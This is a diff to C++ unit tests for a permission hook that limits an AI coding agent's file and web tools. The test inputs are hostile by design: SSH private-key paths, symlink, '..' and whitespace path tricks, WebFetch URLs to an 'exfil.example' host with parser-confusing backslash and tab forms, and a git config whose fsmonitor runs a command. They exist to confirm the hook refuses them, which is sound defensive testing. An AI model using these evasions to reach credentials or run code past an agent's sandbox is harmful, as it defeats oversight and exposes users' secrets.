@@ -86,6 +86,7 @@ TEST_F(ClaudeHookTest, EachFileToolIsHeldToThePolicy) {
   ExpectAllowed("Read", {{"file_path", "README.md"}});  // relative to the call's cwd
   ExpectAllowed("Read", {{"file_path", "/usr/bin/env"}});
   ExpectDenied("Read", {{"file_path", key}});
+  ExpectDenied("Read", {{"file_path", "~/.ssh/id_ed25519"}});  // Claude Code expands ~
   ExpectDenied("Read", {{"file_path", bashrc_}});
   ExpectAllowed("NotebookRead", {{"notebook_path", ws_ + "/nb.ipynb"}});
   ExpectDenied("NotebookRead", {{"notebook_path", home_ + "/nb.ipynb"}});
@@ -121,6 +122,12 @@ TEST_F(ClaudeHookTest, EachFileToolIsHeldToThePolicy) {
   ExpectDenied("FutureFileTool", {{"file_path", bashrc_}});
   // WebFetch: only hosts the policy allows.
   ExpectDenied("WebFetch", {{"url", "https://exfil.example/?k=1"}, {"prompt", "p"}});
+  // A URL a fetcher reads differently (WHATWG: "\\" is "/", tabs dropped) is refused.
+  for (const char* url : {"https://exfil.example\\@docs.example/", "https://exfil.example:80\\@docs.example/",
+                          "https://exfil.exa\tmple/", "https://docs.example:1:2/"}) {
+    a = Ask("WebFetch", {{"url", url}, {"prompt", "p"}}, {"-n", "docs.example"});
+    EXPECT_EQ(a.decision, "deny") << url << " " << a.err;
+  }
   a = Ask("WebFetch", {{"url", "https://docs.example:443/x"}, {"prompt", "p"}},
           {"-n", "docs.example"});
   EXPECT_EQ(a.decision, "") << a.reason << a.err;
@@ -138,10 +145,10 @@ TEST_F(ClaudeHookTest, SteeredPathsAreResolvedOnTheHost) {
   ASSERT_EQ(symlink("../outside/made-by-write", (ws_ + "/dangling-rel").c_str()), 0);
   ExpectDenied("Write", {{"file_path", ws_ + "/dangling"}});
   ExpectDenied("Write", {{"file_path", ws_ + "/dangling-rel"}});
-  // ".." after a link is taken from where the link leads.
+  // A link's own target may climb with "..": the kernel takes that from where the link is.
   MakeDirs(ws_ + "/sub", 0755);
-  ASSERT_EQ(symlink((home_ + "/.ssh").c_str(), (ws_ + "/sub/up").c_str()), 0);
-  ExpectDenied("Read", {{"file_path", ws_ + "/sub/up/../.bashrc"}});
+  ASSERT_EQ(symlink("../../home/.ssh", (ws_ + "/sub/up").c_str()), 0);
+  ExpectDenied("Read", {{"file_path", ws_ + "/sub/up/id_ed25519"}});
   // /proc magic links name another process's objects (the hook's /proc/self is not Claude
   // Code's): refused even where the text would lead somewhere allowed.
   ExpectDenied("Read", {{"file_path", "/proc/self/root" + key}});
@@ -157,6 +164,59 @@ TEST_F(ClaudeHookTest, SteeredPathsAreResolvedOnTheHost) {
   ASSERT_EQ(symlink((ws_ + "/sub").c_str(), (ws_ + "/sub-link").c_str()), 0);
   ExpectAllowed("Read", {{"file_path", ws_ + "/readme-link"}});
   ExpectAllowed("Write", {{"file_path", ws_ + "/sub-link/new.txt"}});
+}
+
+// Claude Code's file tools normalise a path as text (trim, "~", "..") before they open it, and
+// skip that before the hook for paths past PATH_MAX: the hook reads each path the same way or
+// refuses it.
+TEST_F(ClaudeHookTest, PathsAreReadAsClaudeCodeReadsThem) {
+  const std::string ssh = home_ + "/.ssh";
+  MakeDirs(ws_ + "/d1/d2", 0755);
+  ASSERT_EQ(symlink("d1/d2", (ws_ + "/a").c_str()), 0);
+  // ".." is taken as text before any symlink: a/../../home is HOME's, not d1's.
+  ExpectDenied("Grep", {{"pattern", "."}, {"path", ws_ + "/a/../../home/.ssh"}});
+  ExpectDenied("Read", {{"file_path", ws_ + "/a/../../home/.ssh/id_ed25519"}});
+  ExpectDenied("Write", {{"file_path", ws_ + "/a/../../outside/x"}});
+  // Whitespace Claude Code trims, and "~" it expands.
+  for (const std::string& p : {" " + ssh, ssh + " ", ssh + "\n", "\xef\xbb\xbf" + ssh, std::string("~/.ssh"),
+                               std::string(" ~/.ssh")}) {
+    Answer a = Ask("Grep", {{"pattern", "."}, {"path", p}});
+    EXPECT_TRUE(a.decision == "deny" || a.status == 2) << "[" << p << "] " << a.err;
+  }
+  Answer g = Ask("Glob", {{"pattern", home_ + "/.ssh /*"}});
+  EXPECT_TRUE(g.decision == "deny" || g.status == 2) << g.err;
+  // Past PATH_MAX Claude Code does not normalise before the hook; the hook refuses.
+  Answer longer = Ask("Read", {{"file_path", std::string(5000, ' ') + ssh + "/id_ed25519"}});
+  EXPECT_EQ(longer.status, 2) << longer.reason;
+  // Controls: plain paths, relative ones, a "~" that stays allowed, a link inside.
+  ExpectAllowed("Grep", {{"pattern", "."}, {"path", ws_ + "/a"}});
+  ExpectAllowed("Read", {{"file_path", ws_ + "/d1/../README.md"}});
+  ExpectAllowed("Write", {{"file_path", "d1/new file.txt"}});
+}
+
+// A git directory is one by its structure, whatever its name: its config and hooks are what
+// the host's git runs, and a .git file points git at one.
+TEST_F(ClaudeHookTest, GitDirectoriesAreKnownByTheirStructure) {
+  const std::string gd = ws_ + "/gd";
+  MakeDirs(gd + "/objects", 0755);
+  MakeDirs(gd + "/refs", 0755);
+  WriteFile(gd + "/HEAD", "ref: refs/heads/main\n", 0644);
+  ExpectDenied("Write", {{"file_path", gd + "/config"}});
+  ExpectDenied("Edit", {{"file_path", gd + "/hooks/pre-commit"}});
+  ExpectDenied("Write", {{"file_path", ws_ + "/sub/.git"}});
+  ExpectAllowed("Write", {{"file_path", gd + "/description"}});  // inert
+  // A directory that lacks only HEAD, with a config that runs a program: writing HEAD would
+  // make it a git directory around that config.
+  const std::string half = ws_ + "/half";
+  MakeDirs(half + "/objects", 0755);
+  MakeDirs(half + "/refs", 0755);
+  WriteFile(half + "/config", "[core]\n\tfsmonitor = touch /tmp/pwned\n", 0644);
+  ExpectDenied("Write", {{"file_path", half + "/HEAD"}});
+  // Controls: the same names outside any git directory.
+  ExpectAllowed("Write", {{"file_path", ws_ + "/src/config"}});
+  ExpectAllowed("Write", {{"file_path", ws_ + "/src/hooks/useThing.js"}});
+  MakeDirs(ws_ + "/plain/objects", 0755);
+  ExpectAllowed("Write", {{"file_path", ws_ + "/plain/HEAD"}});
 }
 
 TEST_F(ClaudeHookTest, DecisionsAreInTheAuditTrail) {
